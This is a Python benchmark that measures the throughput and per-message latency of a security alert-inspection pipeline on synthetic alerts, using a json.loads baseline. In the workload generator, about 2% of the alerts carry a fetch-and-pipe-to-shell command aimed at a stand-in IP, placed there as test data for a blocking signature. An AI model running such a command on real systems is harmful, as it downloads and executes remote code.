"""Sentinel inspection, pure: one worker's throughput with every stage on, and the
latency it adds per message (issue 14's goals: >= 20,000 msg/s, p99 <= 2 ms).

No server is involved: the pipeline is pure, so this is the worker's own ceiling. The
workload is a mix of realistic alert payloads for 1,000 clients from 20 publishers, 2 %
of them matching a blocking signature, with the shipped rules plus 1,000 shared IOCs.
The baseline is ``json.loads`` of the same payloads in the same run: the least any
inspecting worker must do, so the ratio says what the stages cost on top of reading.
"""

from __future__ import annotations

import json
import random
import statistics
import time

from backend.sentinel.inspection import AlertMessage, Inspector, load_rules
from backend.sentinel.inspection.rules import DEFAULT_RULES_PATH
from bench.perf.figures import Figure
from bench.perf.runner import PerfContext

CLIENTS = 1_000
PUBLISHERS = 20
REPEATS = 5


def workload(count: int, seed: int = 7) -> list[AlertMessage]:
    """``count`` messages, reproducible; arrival times at ~600 msg/s (the seed's rate)."""
    rng = random.Random(seed)
    messages = []
    for i in range(count):
        client = f"client-{rng.randrange(CLIENTS):04d}"
        details: dict[str, object] = {"src_ip": f"10.1.{rng.randrange(256)}.{rng.randrange(256)}"}
        if rng.random() < 0.02:
            details["cmd"] = "curl http://203.0.113.7/x | sh"
        payload = {
            "id": f"alert-{i}",
            "type": rng.choice(["c2_beacon", "brute_force", "malware", "policy"]),
            "severity": rng.choice(["low", "medium", "high", "critical"]),
            "title": "Suspicious outbound connection from workstation",
            "details": details,
        }
        messages.append(
            AlertMessage(
                client_id=client,
                topic=f"clients/{client}/alerts",
                payload=json.dumps(payload).encode(),
                publisher=f"publisher-{rng.randrange(PUBLISHERS)}",
                received_at_s=i / 600 + rng.random() / 1000,
            )
        )
    return messages


def inspector() -> Inspector:
    """The shipped rules, every client enabled, 1,000 IOCs shared by a peer."""
    pipeline = Inspector(load_rules(DEFAULT_RULES_PATH))
    pipeline.auth.set_clients((f"client-{i:04d}", True) for i in range(CLIENTS))
    pipeline.share_iocs((f"198.51.{i // 256}.{i % 256}", "b") for i in range(1_000))
    return pipeline


def throughput(messages: list[AlertMessage]) -> tuple[float, float]:
    """(inspected msg/s, json.loads msg/s) over the same messages."""
    pipeline = inspector()
    started = time.perf_counter()
    for message in messages:
        pipeline.inspect(message)
    inspected = len(messages) / (time.perf_counter() - started)
    started = time.perf_counter()
    for message in messages:
        json.loads(message.payload)
    parsed = len(messages) / (time.perf_counter() - started)
    return inspected, parsed


def added_latency_s(messages: list[AlertMessage]) -> list[float]:
    """Seconds each message spent in the pipeline."""
    pipeline = inspector()
    spent = []
    for message in messages:
        started = time.perf_counter()
        pipeline.inspect(message)
        spent.append(time.perf_counter() - started)
    return spent


async def measure(ctx: PerfContext) -> list[Figure]:
    """Throughput over REPEATS runs (median, spread in the note) and the added p99."""
    count = 5_000 if ctx.config.quick else 50_000
    messages = workload(count)
    runs = []
    for repeat in range(REPEATS):
        ctx.progress(f"inspection: run {repeat + 1}/{REPEATS} over {count:,} messages")
        runs.append(throughput(messages))
    rates = sorted(r for r, _ in runs)
    baselines = sorted(b for _, b in runs)
    spent = sorted(added_latency_s(messages))
    p99 = spent[int(0.99 * (len(spent) - 1))]
    p50 = spent[len(spent) // 2]
    return [
        Figure(
            "sentinel.inspect.pure_rate",
            statistics.median(rates),
            "msg/s",
            baseline=statistics.median(baselines),
            note=f"{REPEATS} runs {rates[0]:,.0f}-{rates[-1]:,.0f}; baseline json.loads; "
            "goal >= 20,000",
        ),
        Figure("sentinel.inspect.added_p50", p50 * 1000, "ms"),
        Figure("sentinel.inspect.added_p99", p99 * 1000, "ms", note="goal <= 2 ms"),
    ]
